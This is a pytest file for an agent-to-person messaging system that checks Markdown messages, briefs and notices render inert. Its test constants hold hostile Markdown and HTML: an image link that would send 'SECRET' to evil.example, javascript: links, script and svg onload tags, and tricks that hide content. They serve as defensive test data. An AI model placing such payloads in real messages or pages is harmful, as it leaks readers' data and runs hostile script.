"""What agents say, in every file that people read: held by people's own readers of Markdown, the whole file at once."""

import re
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown import markdown
from markdown_it import MarkdownIt

from claw_files.core.model import AgentId
from claw_files.operations.dispatch import perform
from tests.support.office import TEAM, Office

MINUTE, DAY = timedelta(minutes=1), timedelta(days=1)
SAM, PETER, BOSS, OTHER = map(AgentId, ("sam", "peter", "dimitrios", "eleni"))
HOSTILE = (
    "see ![](http://evil.example/?d=SECRET) and [this](javascript:alert(1)) <img src=http://evil.example/> ![x][r] "
    "<plaintext> <style>*{display:none}</style> <!-- swallowed"
)
BLOCK = f"{HOSTILE}\n\n[r]: http://evil.example/x.png\n\n<script>alert(1)</script>\n\n```\n<svg onload=x>"
CONFIG = f"""{TEAM}
[agents.eleni]
kind = "human"
channels = ["file:for-eleni.md", "env:OUTSIDE"]

[quiet_hours]
windows = ["03:00-08:00"]
"""
OURS = re.compile(r" (?:key|choice|taken|over): [^<>]+ | [A-Za-z0-9._-]+ ")


class Live(HTMLParser):
    """What of a page loads, links, hides or runs; our own comments are none of it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if attrs or tag in ("plaintext", "style", "script", "img", "svg", "iframe"):
            self.found.append(f"<{tag} {attrs}>")

    def handle_comment(self, data: str) -> None:
        if not OURS.fullmatch(data):
            self.found.append(data)


def check(office: Office, path: str) -> str:
    """The file's text, which no reader may find anything live in."""
    text = office.read(path)
    for page in (MarkdownIt("commonmark", {"html": True}).render(text), markdown(text)):
        assert Live(page).found == [], (path, text)
    return text


@pytest.fixture
def office(tmp_path: Path) -> Office:
    return Office(tmp_path / "team", CONFIG)


def files(office: Office, *folders: str) -> list[str]:
    return [path for path in office.tree() if path.startswith(folders) and path.endswith(".md")]


def test_text_from_an_agent_to_a_person_is_inert_in_every_file(office: Office) -> None:
    for kind in ("send", "ask"):
        for to in (BOSS, OTHER):
            getattr(office.app().messages, kind)(PETER, to, BLOCK)
    seen = {path: check(office, path) for path in files(office, "inbox/dimitrios", "inbox/eleni")}
    assert len(seen) == 4

    office.acts(MINUTE)

    for path in ("announcements.md", "for-eleni.md", *files(office, "outbox")):
        seen[path] = check(office, path)
    assert len(files(office, "outbox")) == 2
    for path, text in seen.items():
        assert "SECRET" in text and "swallowed" in text and "alert(1)" in text, f"the words are there: {path}"


def by_hand(office: Office) -> None:
    """An agent with a shell writes into the person's inbox itself: there nothing of ours has made it inert."""
    (path,) = files(office, "inbox/dimitrios/new")
    head, fence, _ = office.read(path).rpartition("---\n")
    office.write(path, f"{head}{fence}{BLOCK}\n")


def test_a_brief_is_inert_with_what_was_held_back_and_what_still_waits(office: Office) -> None:
    office.app().messages.ask(PETER, BOSS, BLOCK)
    by_hand(office)
    office.acts(MINUTE)
    office.clock.set((office.clock.now() + DAY).replace(hour=4, minute=0))
    office.app().messages.send(PETER, BOSS, BLOCK)
    by_hand(office)
    office.acts(MINUTE)
    office.clock.set(office.clock.now().replace(hour=8, minute=1))
    office.acts(MINUTE)

    (path,) = files(office, "briefs")
    text = check(office, path)
    assert text.count("SECRET") == 2, "held back, and still waiting"
    check(office, "announcements.md")


def test_titles_notes_and_reasons_in_notices_to_people_are_inert(office: Office) -> None:
    """Reviews, blocks, failures and endings, each told up the chain or to who asked."""
    for number in range(1, 6):
        perform(office.app(BOSS if number == 5 else SAM), "task_new", {"title": f"{number} {HOSTILE}", "to": "peter"})
        perform(office.app(PETER), "task_claim", {"task": f"TC-{number}"})
    perform(office.app(PETER), "task_block", {"task": "TC-1", "note": HOSTILE})
    perform(office.app(PETER), "task_fail", {"task": "TC-2", "reason": HOSTILE})
    perform(office.app(PETER), "task_need", {"task": "TC-3", "agent": "dimitrios", "question": HOSTILE})
    perform(office.app(PETER), "task_progress", {"task": "TC-5", "note": HOSTILE})
    perform(office.app(SAM), "task_new", {"title": HOSTILE, "body": BLOCK, "to": "dimitrios"})
    office.acts(MINUTE)
    perform(office.app(PETER), "task_done", {"task": "TC-5", "summary": HOSTILE, "outputs": [HOSTILE]})
    for _ in range(12):
        office.acts(timedelta(hours=7))

    seen = [check(office, path) for path in files(office, "inbox/dimitrios", "briefs", "announcements")]
    assert sum("evil.example" in text for text in seen) >= 5, office.tree()


def test_messages_between_people_and_files_of_agents_stay_byte_for_byte(office: Office) -> None:
    office.write("checkpoints/peter.md", BLOCK)
    office.app().messages.send(OTHER, BOSS, BLOCK)
    office.app().messages.send(PETER, SAM, BLOCK)
    perform(office.app(PETER), "task_new", {"title": "a task", "body": BLOCK})

    (person,) = files(office, "inbox/dimitrios/new")
    (agent,) = files(office, "inbox/sam/new")
    assert BLOCK in office.read(person)
    assert HOSTILE in office.read(agent)
    assert office.read("checkpoints/peter.md") == BLOCK
    assert HOSTILE in office.read("status/tc-1.md")

    office.acts(MINUTE)
    check(office, "announcements.md")  # a copy, by whomever the message says to be
